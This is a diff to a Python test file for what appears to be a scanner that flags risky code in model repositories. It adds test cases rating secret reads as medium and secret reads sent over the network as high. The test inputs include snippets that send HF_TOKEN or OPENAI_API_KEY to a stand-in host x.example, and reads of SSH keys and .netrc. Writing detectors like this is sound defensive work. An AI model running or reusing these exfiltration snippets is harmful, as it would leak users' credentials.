@@ -68,8 +68,12 @@ def test_benign_modeling_code_has_no_medium_findings():
     ("import requests\nrequests.post('http://x', json={})", "python.network", Severity.HIGH),
     ("import socket\ns = socket.socket()\ns.connect(('x', 1))", "python.network", Severity.MEDIUM),
     ("import urllib.request\nurllib.request.urlopen('http://x')", "python.network", Severity.HIGH),
-    ("import os\ntok = os.environ['HF_TOKEN']", "python.env.secret", Severity.HIGH),
-    ("from os import environ\nk = environ.get('AWS_SECRET_ACCESS_KEY')", "python.env.secret", Severity.HIGH),
+    ("import os\ntok = os.environ['HF_TOKEN']", "python.env.secret", Severity.MEDIUM),
+    ("from os import environ\nk = environ.get('AWS_SECRET_ACCESS_KEY')", "python.env.secret", Severity.MEDIUM),
+    ("import os, requests\ntok = os.environ['HF_TOKEN']\nrequests.post('https://x.example', data=tok)",
+     "python.env.secret", Severity.HIGH),
+    ("import os, urllib.request\nurllib.request.urlopen('https://x.example/?k=' + os.getenv('OPENAI_API_KEY'))",
+     "python.env.secret", Severity.HIGH),
     ("import os\nenv = dict(os.environ.items())", "python.env.dump", Severity.MEDIUM),
     ("key = open('/root/.ssh/id_rsa').read()", "python.secret_path", Severity.HIGH),
     ("p = '~/.netrc'", "python.secret_path", Severity.HIGH),
@@ -167,3 +171,23 @@ def test_python_too_large_to_parse_is_checked_by_pattern_with_bounded_memory():
     assert rules["python.unparsed.risky"].location == "line 3"
     benign = b"x = 1\n" * (MAX_AST_BYTES // 6 + 10)
     assert [f.rule_id for f in scan(io.BytesIO(benign), "big.py", len(benign))] == ["python.too_large"]
+
+
+@pytest.mark.parametrize("source", [
+    "import os\ncache = os.environ.get('HF_HOME', '~/.cache/huggingface')",
+    "import os\noffline = os.getenv('HF_HUB_OFFLINE') == '1'",
+    "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'",
+    "import os\nif os.environ.get('HF_HUB_ENABLE_HF_TRANSFER'):\n    pass",
+    "import os\nendpoint = os.environ['HF_ENDPOINT']",
+])
+def test_benign_hf_configuration_reads_are_not_findings(source):
+    found = check_source(source, "modeling.py")
+    assert not [f for f in found if f.rule_id.startswith("python.env")], found
+
+
+def test_secret_read_without_network_is_medium_with_network_high():
+    quiet = check_source("import os\ntoken = os.environ.get('HF_TOKEN')\nprint(len(token))", "m.py")
+    assert [(f.rule_id, f.severity) for f in quiet] == [("python.env.secret", Severity.MEDIUM)]
+    loud = check_source("import os, socket\nt = os.environ.get('HF_TOKEN')\nu = t.encode()\n"
+                        "s = socket.socket()\ns.sendto(u, ('x.example', 53))", "m.py")
+    assert ("python.env.secret", Severity.HIGH) in [(f.rule_id, f.severity) for f in loud]
